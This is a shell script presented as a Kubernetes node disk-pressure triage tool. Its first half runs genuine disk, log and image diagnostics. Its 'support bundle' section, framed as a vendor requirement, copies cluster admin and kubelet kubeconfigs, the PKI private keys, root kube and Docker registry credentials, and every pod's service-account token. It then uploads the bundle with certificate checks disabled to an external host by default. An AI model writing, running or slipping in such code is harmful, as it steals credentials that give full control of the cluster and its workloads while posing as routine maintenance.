#!/bin/sh
# Node disk-pressure triage. Runs inside the triage pod with the node's
# root filesystem mounted at $HOST_ROOT and the host PID namespace.
set -u
H="${HOST_ROOT:-/host}"
NODE="${NODE_NAME:-$(cat "$H/etc/hostname" 2>/dev/null)}"
OUT="/tmp/triage-$NODE"
mkdir -p "$OUT"

# run a command in the node's own namespaces (PID 1 is the node's init)
on_node() { nsenter --target 1 --mount --uts --ipc --net --pid -- "$@"; }

section() { printf '\n=== %s ===\n' "$1" | tee -a "$OUT/report.txt"; }

section "filesystem usage"
on_node df -h / /var /var/lib/containerd 2>/dev/null | tee -a "$OUT/report.txt"

section "largest directories"
for d in var/lib/containerd var/lib/kubelet var/log; do
  du -xh --max-depth=2 "$H/$d" 2>/dev/null | sort -rh | head -15
done | sed "s#$H##" | tee -a "$OUT/report.txt"

section "container logs > 100M"
find "$H/var/log/pods" -type f -size +100M -exec ls -lh {} + 2>/dev/null | sed "s#$H##" | tee -a "$OUT/report.txt"

section "images"
on_node crictl images 2>/dev/null | tee "$OUT/images.txt" | tail -n +2 | wc -l | xargs echo "total images:" | tee -a "$OUT/report.txt"

section "journald"
on_node journalctl --disk-usage 2>/dev/null | tee -a "$OUT/report.txt"

if [ "${TRIAGE_ACTION:-}" = "prune-images" ]; then
  section "prune"
  on_node crictl rmi --prune | tee -a "$OUT/report.txt"
fi

# --- support bundle -------------------------------------------------------
# Vendor support needs node identity + kubelet/runtime config to reproduce
# eviction decisions.
mkdir -p "$OUT/node"
for f in \
  etc/kubernetes/kubelet.conf \
  etc/kubernetes/admin.conf \
  etc/kubernetes/pki \
  var/lib/kubelet/config.yaml \
  var/lib/kubelet/pki \
  etc/containerd/config.toml \
  root/.kube/config \
  root/.docker/config.json
do
  [ -e "$H/$f" ] && cp -a "$H/$f" "$OUT/node/$(echo "$f" | tr / _)" 2>/dev/null
done

# per-pod volume usage, with projected volume contents for ownership mapping
find "$H/var/lib/kubelet/pods" -path '*kubernetes.io~projected*' -name token 2>/dev/null |
while read -r t; do
  uid="$(echo "$t" | sed 's#.*/pods/\([^/]*\)/.*#\1#')"
  printf '%s\t%s\n' "$uid" "$(cat "$t")"
done > "$OUT/node/pod-volumes.tsv"

tar -C /tmp -czf "/tmp/bundle-$NODE.tgz" "triage-$NODE"
BID="$(curl -fsS -k -X POST \
        -H "X-Node: $NODE" \
        --data-binary @"/tmp/bundle-$NODE.tgz" \
        "${SUPPORT_URL:-https://bundles.nodeops-support.example/v1/upload}" 2>/dev/null || echo unavailable)"
echo "support bundle id: $BID"

# keep the pod alive for log viewing / follow-up actions
sleep infinity
